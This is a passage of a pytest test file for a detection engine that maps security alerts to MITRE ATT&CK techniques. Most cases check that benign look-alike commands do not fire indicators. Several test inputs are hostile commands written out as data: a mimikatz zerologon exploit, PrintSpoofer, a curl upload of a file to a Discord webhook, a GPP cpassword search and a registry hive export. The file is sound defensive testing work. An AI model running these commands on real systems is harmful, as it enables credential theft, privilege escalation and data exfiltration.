        cmd(
            "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Windows\\CCM\\SystemTemp\\x.ps1 -WindowStyle Hidden"
        ),
        ["hidden-window"],
    ),
    (cmd("powershell.exe -w Normal -File deploy.ps1"), ["hidden-window"]),
    (cmd("base64 -d cert.b64 > cert.pem"), ["base64-decode-to-shell"]),
    (cmd("python3 -c 'import sys; print(sys.version)'"), ["python-inline-payload"]),
    (cmd("chmod +x ./gradlew"), ["chmod-exec-dropped"]),
    (cmd("chmod 644 /tmp/report.txt"), ["chmod-exec-dropped"]),
    (cmd("ls -la /tmp/.X11-unix", executable="/usr/bin/ls"), ["hidden-path-in-temp"]),
    (cmd("psql -h /tmp/.s.PGSQL.5432"), ["hidden-path-in-temp"]),
    (cmd("attrib +s +h C:\\Users\\bob\\Desktop\\desktop.ini"), ["hidden-attribute-windows"]),
    (cmd("attrib -r C:\\data\\file.txt"), ["hidden-attribute-windows"]),
    (cmd("dscl . -read /Users/bob"), ["hidden-user-account"]),
    (cmd("git clone https://github.com/example/minerva"), ["crypto-miner"]),
    ({"dns": {"question": {"name": "www.2minersfanclub.example"}}}, ["mining-pool-traffic"]),
    ({"process": {"name": "kworker/0:1"}}, ["kernel-thread-masquerade"]),
    (
        cmd("osascript -e 'display notification \"Backup done\"'"),
        ["osascript-credential-prompt", "osascript-suspicious"],
    ),
    (cmd("cscript //nologo C:\\Windows\\System32\\slmgr.vbs /ato"), ["script-host", "script-host-user-dir"]),
    ({"process": {"name": "sqlceip.exe", "parent": {"name": "sqlservr.exe"}}}, ["sql-server-shell"]),
    (cmd("cmd.exe /c echo done > C:\\temp\\out.txt"), ["named-pipe-impersonation"]),
    (cmd("msiexec.exe /i C:\\Installers\\7zip.msi /qn"), ["msiexec-remote"]),
    (cmd("InstallUtil.exe C:\\Program Files\\Vendor\\Service.exe"), ["installutil-proxy"]),
    (cmd('regasm.exe /codebase "C:\\Program Files\\Vendor\\Addin.dll"'), ["regasm-regsvcs-proxy"]),
    (
        cmd("rundll32.exe setupapi.dll,InstallHinfSection DefaultInstall 132 C:\\drivers\\x.inf"),
        ["rundll32-proxy-exports"],
    ),
    (
        cmd("msbuild.exe C:\\Users\\dev\\source\\repos\\App\\App.csproj /p:Configuration=Release"),
        ["msbuild-inline-task"],
    ),
    (cmd("net use Z: \\\\fileserver01\\shared"), ["admin-share-mount"]),
    (cmd("copy report.xlsx \\\\fileserver01\\shared\\reports\\"), ["admin-share-copy"]),
    (cmd("vssadmin list shadows"), ["shadow-copy-create", "shadow-copy-credential-files"]),
    (cmd("klist purge"), ["pass-the-ticket", "golden-ticket"]),
    (cmd("net stop spooler"), ["service-stop-for-impact"]),
    (cmd("zip -r release.zip dist/"), ["staging-archive-sensitive"]),
    (cmd("ditto -c -k --keepParent build/App.app App.zip"), ["staging-archive-sensitive"]),
    (cmd("curl -x http://proxy.corp:3128 https://example.com"), ["tor-proxy"]),
    (
        cmd("curl -fsSL https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh -o install.sh"),
        ["paste-site-download"],
    ),
    (cmd("wevtutil qe Security /c:5"), ["windows-event-logging-disabled", "event-log-clear"]),
    (cmd("auditctl -l"), ["linux-audit-disabled"]),
    (cmd("fltmc filters"), ["minifilter-unload"]),
    (cmd("netsh interface show interface"), ["portproxy"]),
    (cmd("bcdedit /enum"), ["code-signing-policy", "boot-status-policy"]),
    (cmd("icacls C:\\data /grant corp\\app-svc:(RX)"), ["permissions-opened-windows"]),
    (cmd("findstr /i error C:\\logs\\app.log"), ["credentials-in-files"]),
    (cmd("john --help"), ["password-cracking"]),
    ({"powershell": {"file": {"script_block_text": "Get-NetAdapter | Get-NetIPAddress"}}}, ["powerview-discovery"]),
    (cmd("cat /etc/ld.so.conf"), ["ld-preload-hijack"]),
    (cmd("echo 'export PATH=$PATH:/opt/bin' > /tmp/env.sh"), ["shell-profile-persistence"]),
    (cmd("cat /etc/pam.d/sshd"), ["pam-module-tamper"]),
    (cmd("net user guest"), ["guest-account-enabled"]),
    (cmd("docker run --rm -v $(pwd):/src node:20 npm test"), ["container-escape-run", "container-privileged-run"]),
    (cmd("kubectl get pods -n prod"), ["kubectl-exec", "kubernetes-secret-read"]),
    (cmd("modprobe nvidia"), ["kernel-module-from-temp", "kernel-module-load"]),
    (cmd("apt-get install --only-upgrade openssl  # fixes CVE-2024-12797"), ["local-exploit"]),
    (
        cmd("sqlite3 ~/Library/Application\\ Support/com.apple.TCC/TCC.db 'select client from access'"),
        ["tcc-manipulation"],
    ),
    ({"winlog": {"channel": "Security", "event_id": 4624}}, ["security-logon-new-credentials"]),
    (
        {
            "winlog": {
                "channel": "Security",
                "event_id": 4662,
                "event_data": {"SubjectUserName": "DC02$", "Properties": "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"},
            }
        },
        ["security-dcsync-rights"],
    ),
    ({"powershell": {"file": {"script_block_text": "Get-Process"}}}, ["powershell-download-cradle"]),
    (cmd('mimikatz.exe "lsadump::zerologon /target:dc01 /exploit" exit'), ["lsass-dump-tool", "mimikatz-named"]),
    (cmd("PrintSpoofer64.exe -i -c whoami"), ["whoami-discovery"]),
    (
        {"user_agent": {"original": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/124.0"}},
        ["scanner-user-agent"],
    ),
    ({"user_agent": {"original": "Nessus SOAP"}}, ["scanner-user-agent"]),
    ({"url": {"original": "/search?q=union+station+opening+hours"}}, ["web-exploit-payload", "log4shell"]),
    ({"url": {"original": "/docs/${version}/index.html"}}, ["log4shell", "log4shell-obfuscated"]),
    ({"url": {"original": "/api/v1/exec?command=status"}}, ["web-shell-request"]),
    (cmd("dig corp.example MX"), ["dns-zone-transfer"]),
    (
        {"message": "client 10.0.0.3#53012 (corp.example): transfer of 'corp.example/IN': AXFR started"},
        ["dns-zone-transfer"],
    ),
    (cmd("echo Meeting at 10:30 in room 4 > notes.txt"), ["at-job"]),
    (cmd("snmpget -v2c -c public 10.0.0.1 sysUpTime.0"), ["snmp-attack-tools", "snmp-walk"]),
    (cmd("ping -c 4 10.0.0.1"), ["icmp-tunnel"]),
    (cmd("terraform plan -out tfplan"), []),
    (cmd("git push origin main"), []),
    (cmd("apt-get -y upgrade"), []),
    # benign look-alikes of the indicators added for technique precision
    (cmd("certutil -hashfile setup.exe SHA256"), ["certutil-download", "certutil-decode", "certutil-encode"]),
    (cmd("launchctl list"), ["launchctl-load"]),
    ({"file": {"path": "/System/Library/LaunchDaemons/com.apple.softwareupdated.plist"}}, ["apple-plist-masquerade"]),
    (cmd("reg save HKLM\\SYSTEM C:\\backup\\system.hiv"), ["sam-hive-export"]),
    (cmd("git rebase -i HEAD^2"), ["cmd-caret-obfuscation"]),
    (cmd("cmd.exe /c dir C:\\"), ["cmd-chained-commands"]),
    (cmd("wmic os get caption"), ["wmic-action"]),
    ({"process": {"executable": "C:\\Windows\\System32\\svchost.exe"}}, ["windows-binary-masquerade"]),
    ({"process": {"executable": "C:\\Windows\\explorer.exe"}}, ["windows-binary-masquerade"]),
    ({"process": {"name": "sshd", "executable": "/usr/sbin/sshd"}}, ["daemon-name-masquerade"]),
    ({"process": {"name": "procdump64.exe", "pe": {"original_file_name": "procdump"}}}, ["renamed-tool"]),
    (cmd("ssh deploy@web-01 'sudo systemctl restart nginx'"), ["archive-piped-out"]),
    (cmd("tar czf backup.tgz /srv/app"), ["archive-piped-out"]),
    (cmd("curl -F file=@report.pdf https://discord.com/api/webhooks/1/x"), ["exfil-over-web"]),
    (
        {"process": {"name": "sh", "command_line": "sh -c mvn -q package", "parent": {"name": "java"}}},
        ["app-server-exploit-shell"],
    ),
    (cmd("robocopy C:\\src D:\\dst /MIR"), ["unc-share-collection"]),
    (cmd("copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\data.txt C:\\t"), ["unc-share-collection"]),
    (cmd("python3 /opt/app/manage.py migrate"), ["python-script-temp"]),
    (cmd("system_profiler SPDisplaysDataType"), ["hardware-discovery", "vm-detection"]),
    (
        {
            "process": {
                "command_line": 'notepad.exe "C:\\Users\\bob\\Downloads\\notes.txt"',
                "parent": {"name": "explorer.exe"},
            }
        },
        ["user-opened-file"],
    ),
    ({"message": "DNS resolution returned NXDOMAIN for printer.corp.local"}, ["dga-nxdomain"]),
]


def _label(case):
    alert, *_ = case
    return str(alert)[:60]


@pytest.mark.parametrize(("alert", "indicator_id", "technique"), POSITIVES, ids=[f"{c[1]}-{c[2]}" for c in POSITIVES])
def test_indicator_fires_on_malicious_observable(indicators, alert, indicator_id, technique):
    hits = {h.indicator_id: h for h in hits_for(indicators, alert)}
    assert indicator_id in hits, f"{indicator_id} did not fire; fired: {sorted(hits)}"
    assert technique in hits[indicator_id].techniques


@pytest.mark.parametrize(("alert", "quiet"), NEGATIVES, ids=[_label(c) for c in NEGATIVES])
def test_indicator_stays_quiet_on_benign_lookalike(indicators, alert, quiet):
    hits = hits_for(indicators, alert)
    fired = {h.indicator_id for h in hits}
    assert not fired & set(quiet), f"benign activity fired {sorted(fired & set(quiet))}"


@pytest.mark.parametrize(
    "line",
    [
        "terraform plan -out tfplan",
        "git push origin main",
        "apt-get -y upgrade",
        "yum -y update",
        "brew upgrade",
        "C:\\Windows\\CCM\\CcmExec.exe",
        "C:\\Windows\\System32\\wuauclt.exe /UpdateDeploymentProvider UpdateDeploymentProvider.dll /ClassId x /RunHandlerComServer",
        "/usr/local/bin/jamf policy -event recurring",
        "ping -c 1 10.0.0.1",
        "veeamagent.exe --backup-job daily",
    ],
)
def test_routine_admin_fires_nothing_strong(indicators, line):
    strong = [h for h in hits_for(indicators, cmd(line)) if h.confidence >= EXTEND_BAR]
    assert not strong, [h.indicator_id for h in strong]


def test_gpp_password_search_is_group_policy_preferences_only(indicators):
    line = "findstr /S /I cpassword \\\\corp.local\\sysvol\\corp.local\\policies\\*.xml"
    techniques = {t for h in hits_for(indicators, cmd(line)) for t in h.techniques}
    assert "T1552.006" in techniques
    assert "T1552.001" not in techniques


def test_every_indicator_technique_is_active_in_the_bundled_catalog(catalog, indicators):
    for ind in indicators.indicators:
        for tid in (*ind.techniques, *ind.techniques_by_match.values()):
            tech = catalog.techniques.get(tid)
            assert tech is not None, f"{ind.id}: {tid} is not an active ATT&CK {catalog.version} technique"


def test_indicator_ids_are_unique_and_confidences_sane(indicators):
    ids = [i.id for i in indicators.indicators]
    assert len(ids) == len(set(ids))
    for ind in indicators.indicators:
        assert 0.5 <= ind.confidence <= 0.99, ind.id
        assert ind.fields or ind.event_only, ind.id


def test_cases_name_real_indicators(indicators):
    """A typo in a negative case would make it pass vacuously."""
    known = {i.id for i in indicators.indicators}
    named = {c[1] for c in POSITIVES} | {i for _, ids in NEGATIVES for i in ids}
    assert named <= known, sorted(named - known)


def _key_by_key(compiled, value):
    """techniques_by_match evaluated the plain way: every key tried on its own."""
    found = [(m.group(0), tid) for rx, tid in compiled.by_match if (m := rx.search(value))]
    if len(found) < compiled.spec.min_distinct:
        return None
    return ", ".join(text for text, _ in found), tuple(dict.fromkeys(tid for _, tid in found))


def test_one_pass_prefilter_changes_no_match(indicators):
    """The combined any-key pass only skips values where no key matches; results are identical."""
    import json
    from pathlib import Path

    from mitre.indicators import _Compiled

    examples = Path(__file__).resolve().parents[1] / "examples" / "alerts.ndjson"
    values = [
        v
        for line in examples.read_text().splitlines()
        if line
        for v in extract_features(json.loads(line)).fields.values()
    ]
    keyed = [c for c in (_Compiled(i) for i in indicators.indicators) if c.by_match]
    for compiled in keyed:
        # Every key's own text, alone and in a command line, plus the example alerts' values.
        probes = [*values, *(k.replace("\\", "") for k in compiled.spec.techniques_by_match)]
        probes += [f"cmd.exe /c {p} && whoami" for p in probes[-5:]]
        for value in probes:
            assert compiled.match_value(value) == _key_by_key(compiled, value), (compiled.spec.id, value)
    assert sum(1 for c in keyed for v in values if c.match_value(v)) > 0


def test_indicator_catalog_is_part_of_the_cache_key(catalog, tmp_path):
    from mitre.assemble import EngineOptions, build_engine
    from mitre.config import WorkflowsFile
    from mitre.indicators import IndicatorSet

    engine = build_engine(WorkflowsFile(), options=EngineOptions(knowledge_base=(), cache_dir=tmp_path))
    features = extract_features({"process": {"command_line": "whoami /all"}})
    decision = engine.decide(features)
    before = engine.mapping_key(features, decision)
    engine.indicators = IndicatorSet(engine.indicators.indicators[1:], catalog)
    rebuilt = type(engine)(catalog, engine.indicators, engine.config, None, engine.mapper, engine.cache)
    assert rebuilt.mapping_key(features, decision) != before
